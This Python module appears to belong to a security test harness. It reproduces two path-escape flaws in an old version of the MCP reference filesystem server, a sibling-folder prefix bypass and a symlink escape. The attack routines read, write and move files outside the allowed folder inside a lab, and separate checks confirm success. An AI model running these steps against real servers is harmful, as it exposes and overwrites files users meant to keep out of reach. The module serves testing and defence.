"""The reference filesystem server before July 2025: a folder whose name begins like the allowed one, and links that lead out."""

from attack import Attack, Stdio, node
from lab import Lab
from session import Session

PACKAGE = "@modelcontextprotocol/server-filesystem@2025.3.28"


def prepare(lab: Lab) -> None:
    lab.write("inside/welcome.md", "Welcome.\n")
    lab.write("inside_of_others/secret.txt", lab.secret)
    lab.write("outside.txt", lab.secret)
    lab.write("victim.txt", "untouched")
    (lab.inside / "link.txt").symlink_to(lab.folder / "outside.txt")
    (lab.inside / "victim.txt").symlink_to(lab.folder / "victim.txt")
    (lab.inside / "folder").symlink_to(lab.folder / "inside_of_others")


def server(lab: Lab) -> Stdio:
    return node("filesystem", "@modelcontextprotocol/server-filesystem/dist/index.js", str(lab.inside), cwd=lab.inside)


def constraints(lab: Lab) -> list[dict]:
    path = {"roots": [str(lab.inside)], "follow_links": True}
    return [
        {"at": "/path", "path": path},
        {"at": "/paths/*", "path": path},
        {"at": "/source", "path": path},
        {"at": "/destination", "path": path},
    ]


def sandbox(lab: Lab) -> dict:
    return {"write": [str(lab.inside)]}


async def ordinary(session: Session, lab: Lab) -> None:
    inside = str(lab.inside)
    await session.expect("Welcome.", "read_file", path=f"{inside}/welcome.md")
    await session.expect("welcome.md", "list_directory", path=inside)
    await session.call("write_file", path=f"{inside}/new.md", content="written")
    if (lab.inside / "new.md").read_text() != "written":
        raise AssertionError("write_file did not write")
    await session.call("edit_file", path=f"{inside}/new.md", edits=[{"oldText": "written", "newText": "edited"}])
    await session.call("move_file", source=f"{inside}/new.md", destination=f"{inside}/moved.md")
    await session.expect("edited", "read_multiple_files", paths=[f"{inside}/moved.md"])


# === CVE-2025-53110 ===


async def by_prefix(session: Session, lab: Lab) -> None:
    beside = f"{lab.inside}_of_others"
    await session.attempt("read_file", path=f"{beside}/secret.txt")
    await session.attempt("read_multiple_files", paths=[f"{beside}/secret.txt"])
    await session.attempt("write_file", path=f"{beside}/planted.txt", content="planted")
    await session.attempt("move_file", source=f"{beside}/secret.txt", destination=f"{lab.inside}/moved.txt")


def prefix_happened(session: Session, lab: Lab) -> bool:
    beside = lab.folder / "inside_of_others"
    return session.heard_of(lab.secret) or (beside / "planted.txt").exists() or not (beside / "secret.txt").exists()


# === CVE-2025-53109 ===


async def by_link(session: Session, lab: Lab) -> None:
    await session.attempt("read_file", path=f"{lab.inside}/link.txt")
    await session.attempt("read_multiple_files", paths=[f"{lab.inside}/link.txt"])
    await session.attempt("write_file", path=f"{lab.inside}/victim.txt", content="overwritten")
    await session.attempt("read_file", path=f"{lab.inside}/folder/secret.txt")


def link_happened(session: Session, lab: Lab) -> bool:
    return session.heard_of(lab.secret) or (lab.folder / "victim.txt").read_text() != "untouched"


COMMON = {
    "package": PACKAGE,
    "prepare": prepare,
    "server": server,
    "ordinary": ordinary,
    "constraints": constraints,
    "sandbox": sandbox,
    "needs": ("filesystem",),
}

ATTACKS = (
    Attack(
        name="filesystem-prefix",
        ids="CVE-2025-53110",
        what="reads and writes in a folder whose name begins like the allowed one",
        attack=by_prefix,
        happened=prefix_happened,
        **COMMON,
    ),
    Attack(
        name="filesystem-link",
        ids="CVE-2025-53109",
        what="follows a link out of the allowed folder, reading and writing",
        attack=by_link,
        happened=link_happened,
        **COMMON,
    ),
)
